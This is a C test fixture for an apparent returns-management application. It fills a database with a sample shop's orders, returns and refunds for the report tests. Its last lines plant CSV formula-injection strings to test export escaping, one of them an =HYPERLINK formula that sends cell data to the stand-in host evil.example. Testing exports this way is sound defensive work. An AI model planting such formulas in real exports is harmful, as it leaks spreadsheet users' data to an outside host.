/* retour-test-report-shop.c — the small shop whose report figures the
 * store and CLI tests know by heart.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * The shop (Amsterdam time; November 2026 is the period; now is
 * 5 December):
 *
 *   store 1: O1 Anna  3 Nov  2 × Jacket @100 + 1 × Mug @10   EUR
 *            O2 Ben  30 Nov 23:30  3 × Mug @10               EUR
 *            O3 Ben   1 Dec 00:00  1 × Jacket                EUR (after the period)
 *            O4 Anna 31 Oct 23:59  1 × Jacket                EUR (before it)
 *            O5 Anna 10 Nov  2 × Kubek @40                   PLN
 *            O6 Ben  12 Nov  5 × Mug, cancelled
 *   store 2: O7 Cas   6 Nov 13 × Lamp @5                     EUR
 *
 *   R1 O1 1 Jacket wrong size, made 5 Nov, back 8 Nov, refund; paid
 *      83.05 on 9 Nov (100 − 10 % fee − 6.95 shipping); due by law 19 Nov;
 *      a label
 *   R2 O1 1 Mug defective, made 20 Nov, authorized, undecided; due by law
 *      25 Nov and not paid
 *   R3 O2 2 Mug changed mind, made 30 Nov 23:00, back 2 Dec, exchange
 *   R4 O4 1 Jacket not as described, made 1 Dec 00:00, requested
 *   R5 O4 1 Jacket wrong size, made 2 Nov, back 3 Nov, store credit,
 *      83.05 paid 4 Nov
 *   R6 O5 1 Kubek wrong size, made 11 Nov, back 14 Nov, refund 40 PLN paid
 *      15 Nov; written off
 *   R7 O2 cancelled; R8 a draft
 *   R9 O7 6 Lamp defective + 4 Lamp wrong size, made 7 Nov, requested
 *
 * Its items' titles on R9 and the note of R1's refund are hostile text
 * for the CSV exports: formulas after a quote, a semicolon and a line
 * break.
 */
#include "config.h"

#include "retour-database-private.h"
#include "retour-policy-store.h"
#include "retour-test-report-shop.h"

typedef struct
{
  RetourDatabase *db;
  GTimeZone      *tz;
  gint64          policy_id;
} ShopFill;

static gint64
local_us (ShopFill *f,
          int      month,
          int      day,
          int      hour,
          int      minute)
{
  g_autoptr(GDateTime) time = g_date_time_new (f->tz, 2026, month, day, hour, minute, 0);

  return g_date_time_to_unix (time) * G_USEC_PER_SEC;
}

static void
exec (ShopFill   *f,
      const char *format,
      ...) G_GNUC_PRINTF (2, 3);

static void
exec (ShopFill   *f,
      const char *format,
      ...)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *sql = NULL;
  va_list args;

  va_start (args, format);
  sql = g_strdup_vprintf (format, args);
  va_end (args);

  retour_database_exec (f->db, sql, &error);
  g_assert_no_error (error);
}

static void
add_order (ShopFill   *f,
           int         id,
           int         store,
           int         customer,
           const char *currency,
           gint64      ordered_us,
           gboolean    cancelled,
           const char *country)
{
  exec (f, "INSERT INTO \"order\" (id, store_id, number, customer_id, currency, total_minor, ordered_us, "
           "updated_us, cancelled_us, ship_country) VALUES (%d, %d, 'O%d', %d, '%s', 0, %" G_GINT64_FORMAT
           ", %" G_GINT64_FORMAT ", %s, '%s')",
        id, store, id, customer, currency, ordered_us, ordered_us, cancelled ? "1" : "NULL", country);
}

static void
add_order_line (ShopFill *f,
                int      id,
                int      order,
                int      product,
                int      quantity,
                int      price)
{
  exec (f, "INSERT INTO order_line (id, order_id, product_id, title, quantity, unit_price_minor, total_minor) "
           "VALUES (%d, %d, %d, 'line', %d, %d, %d)",
        id, order, product, quantity, price, quantity * price);
}

static void
add_rma (ShopFill   *f,
         int         id,
         const char *status,
         int         order,
         int         customer,
         const char *currency,
         const char *resolution,
         const char *method,
         gint64      created_us,
         gint64      received_us,
         gint64      due_us)
{
  g_autofree char *received = received_us != 0 ? g_strdup_printf ("%" G_GINT64_FORMAT, received_us)
                                                : g_strdup ("NULL");
  g_autofree char *due = due_us != 0 ? g_strdup_printf ("%" G_GINT64_FORMAT, due_us) : g_strdup ("NULL");

  exec (f, "INSERT INTO rma (id, status, order_id, customer_id, policy_id, resolution, refund_method, currency, "
           "created_us, updated_us, received_us, refund_due_us) VALUES (%d, '%s', %d, %d, %" G_GINT64_FORMAT
           ", '%s', '%s', '%s', %" G_GINT64_FORMAT ", %" G_GINT64_FORMAT ", %s, %s)",
        id, status, order, customer, f->policy_id, resolution, method, currency, created_us, created_us,
        received, due);
}

static void
add_rma_line (ShopFill   *f,
              int         id,
              int         rma,
              int         order_line,
              int         product,
              const char *category,
              int         price,
              int         ordered,
              int         requested,
              int         received,
              const char *reason)
{
  exec (f, "INSERT INTO rma_line (id, rma_id, order_line_id, product_id, title, category, unit_price_minor, "
           "qty_ordered, qty_requested, qty_authorized, qty_received, qty_accepted, reason_id) "
           "VALUES (%d, %d, %d, %d, 'line', '%s', %d, %d, %d, %d, %d, %d, "
           "(SELECT id FROM reason WHERE code = '%s'))",
        id, rma, order_line, product, category, price, ordered, requested, requested, received, received,
        reason);
}

static void
add_refund (ShopFill   *f,
            int         rma,
            int         amount,
            const char *currency,
            const char *method,
            gint64      paid_us)
{
  /* The server refuses refunds beyond what is due. */
  exec (f, "UPDATE rma SET refund_minor = refund_minor + %d WHERE id = %d", amount, rma);
  exec (f, "INSERT INTO refund (id, rma_id, amount_minor, currency, method, created_us, actor) "
           "VALUES (%d, %d, %d, '%s', '%s', %" G_GINT64_FORMAT ", 'test')",
        rma, rma, amount, currency, method, paid_us);
}

gint64
retour_test_report_shop_time (GTimeZone *tz,
                              int        month,
                              int        day,
                              int        hour,
                              int        minute)
{
  g_autoptr(GDateTime) time = g_date_time_new (tz, 2026, month, day, hour, minute, 0);

  return g_date_time_to_unix (time) * G_USEC_PER_SEC;
}

void
retour_test_report_shop_fill (RetourDatabase *db,
                              GTimeZone      *tz)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(RetourPolicy) policy = NULL;
  ShopFill fill = { db, tz, 0 };
  ShopFill *f = &fill;

  /* A 10 % restocking fee, with the default €6.95 return shipping. */
  policy = retour_policy_store_load_current (db, &error);
  g_assert_no_error (error);
  policy->restocking_fee_kind = RETOUR_FEE_PERCENT;
  policy->restocking_fee_basis_points = 1000;
  retour_policy_store_add_version (db, policy, local_us (f, 1, 1, 0, 0), &error);
  g_assert_no_error (error);
  g_assert_cmpint (policy->return_shipping.minor, ==, 695);
  f->policy_id = policy->id;

  exec (f, "INSERT INTO store (id, name, platform, base_url, created_us) VALUES "
           "(1, 'NL', 'woocommerce', 'https://nl.example', 0), (2, 'FR', 'shopify', 'https://fr.example', 0)");
  exec (f, "INSERT INTO customer (id, first_name, last_name, country, created_us, updated_us) VALUES "
           "(1, 'Anna', 'de Vries', 'NL', 0, 0), (2, 'Ben', 'Krüger', 'DE', 0, 0), "
           "(3, 'Cas', 'Martin', 'FR', 0, 0)");
  exec (f, "INSERT INTO product (id, sku, title, category, price_minor, currency) VALUES "
           "(1, 'JKT', 'Jacket', 'Clothing', 10000, 'EUR'), (2, 'MUG', 'Mug', 'Home', 1000, 'EUR'), "
           "(3, 'KUB', 'Kubek', 'Home', 4000, 'PLN'), (4, 'LMP', 'Lamp', 'Lighting', 500, 'EUR')");

  add_order (f, 1, 1, 1, "EUR", local_us (f, 11, 3, 10, 0), FALSE, "NL");
  add_order_line (f, 11, 1, 1, 2, 10000);
  add_order_line (f, 12, 1, 2, 1, 1000);
  add_order (f, 2, 1, 2, "EUR", local_us (f, 11, 30, 23, 30), FALSE, "DE");
  add_order_line (f, 21, 2, 2, 3, 1000);
  add_order (f, 3, 1, 2, "EUR", local_us (f, 12, 1, 0, 0), FALSE, "DE");
  add_order_line (f, 31, 3, 1, 1, 10000);
  add_order (f, 4, 1, 1, "EUR", local_us (f, 10, 31, 23, 59), FALSE, "NL");
  add_order_line (f, 41, 4, 1, 1, 10000);
  add_order (f, 5, 1, 1, "PLN", local_us (f, 11, 10, 10, 0), FALSE, "NL");
  add_order_line (f, 51, 5, 3, 2, 4000);
  add_order (f, 6, 1, 2, "EUR", local_us (f, 11, 12, 10, 0), TRUE, "DE");
  add_order_line (f, 61, 6, 2, 5, 1000);
  add_order (f, 7, 2, 3, "EUR", local_us (f, 11, 6, 10, 0), FALSE, "FR");
  add_order_line (f, 71, 7, 4, 13, 500);

  add_rma (f, 1, "resolved", 1, 1, "EUR", "refund", "original-payment", local_us (f, 11, 5, 10, 0),
           local_us (f, 11, 8, 10, 0), local_us (f, 11, 19, 23, 59));
  add_rma_line (f, 1, 1, 11, 1, "Clothing", 10000, 2, 1, 1, "wrong-size");
  add_refund (f, 1, 8305, "EUR", "original-payment", local_us (f, 11, 9, 10, 0));
  exec (f, "INSERT INTO label (rma_id, version, format, pdf, created_us) VALUES (1, 1, 'a4', 'pdf', 0)");

  add_rma (f, 2, "authorized", 1, 1, "EUR", "undecided", "none", local_us (f, 11, 20, 10, 0), 0,
           local_us (f, 11, 25, 23, 59));
  add_rma_line (f, 2, 2, 12, 2, "Home", 1000, 1, 1, 0, "defective");

  add_rma (f, 3, "received", 2, 2, "EUR", "exchange", "none", local_us (f, 11, 30, 23, 0),
           local_us (f, 12, 2, 10, 0), 0);
  add_rma_line (f, 3, 3, 21, 2, "Home", 1000, 3, 2, 2, "changed-mind");

  add_rma (f, 4, "requested", 4, 1, "EUR", "undecided", "none", local_us (f, 12, 1, 0, 0), 0, 0);
  add_rma_line (f, 4, 4, 41, 1, "Clothing", 10000, 1, 1, 0, "not-as-described");

  add_rma (f, 5, "resolved", 4, 1, "EUR", "store-credit", "store-credit", local_us (f, 11, 2, 10, 0),
           local_us (f, 11, 3, 10, 0), 0);
  add_rma_line (f, 5, 5, 41, 1, "Clothing", 10000, 1, 1, 1, "wrong-size");
  add_refund (f, 5, 8305, "EUR", "store-credit", local_us (f, 11, 4, 10, 0));

  add_rma (f, 6, "resolved", 5, 1, "PLN", "refund", "original-payment", local_us (f, 11, 11, 10, 0),
           local_us (f, 11, 14, 10, 0), 0);
  add_rma_line (f, 6, 6, 51, 3, "Home", 4000, 2, 1, 1, "wrong-size");
  add_refund (f, 6, 4000, "PLN", "original-payment", local_us (f, 11, 15, 10, 0));
  exec (f, "INSERT INTO stock_movement (product_id, delta, cause, bucket, rma_id, rma_line_id, created_us, actor) "
           "VALUES (3, 1, 'write-off', 'written-off', 6, 6, %" G_GINT64_FORMAT ", 'test')",
        local_us (f, 11, 16, 10, 0));
  /* A write-off of a return of December is not November's. */
  exec (f, "INSERT INTO stock_movement (product_id, delta, cause, bucket, rma_id, rma_line_id, created_us, actor) "
           "VALUES (1, 1, 'write-off', 'written-off', 4, 4, %" G_GINT64_FORMAT ", 'test')",
        local_us (f, 12, 2, 10, 0));

  add_rma (f, 7, "cancelled", 2, 2, "EUR", "undecided", "none", local_us (f, 11, 15, 10, 0), 0, 0);
  add_rma_line (f, 7, 7, 21, 2, "Home", 1000, 3, 1, 0, "changed-mind");
  add_rma (f, 8, "draft", 2, 2, "EUR", "undecided", "none", local_us (f, 11, 16, 10, 0), 0, 0);
  add_rma_line (f, 8, 8, 21, 2, "Home", 1000, 3, 1, 0, "changed-mind");

  add_rma (f, 9, "requested", 7, 3, "EUR", "undecided", "none", local_us (f, 11, 7, 10, 0), 0, 0);
  add_rma_line (f, 9, 9, 71, 4, "Lighting", 500, 13, 6, 0, "defective");
  add_rma_line (f, 10, 9, 71, 4, "Lighting", 500, 13, 4, 0, "wrong-size");

  exec (f, "UPDATE rma_line SET title = '=HYPERLINK(\"https://evil.example/?\"&A1;\"Lamp\")' WHERE id = 9");
  exec (f, "UPDATE rma_line SET title = '@SUM(1+1);-Lamp' WHERE id = 10");
  exec (f, "UPDATE refund SET note = 'Paid \"in full\"\n+31 6 1234 5678;=1+1' WHERE id = 1");
}
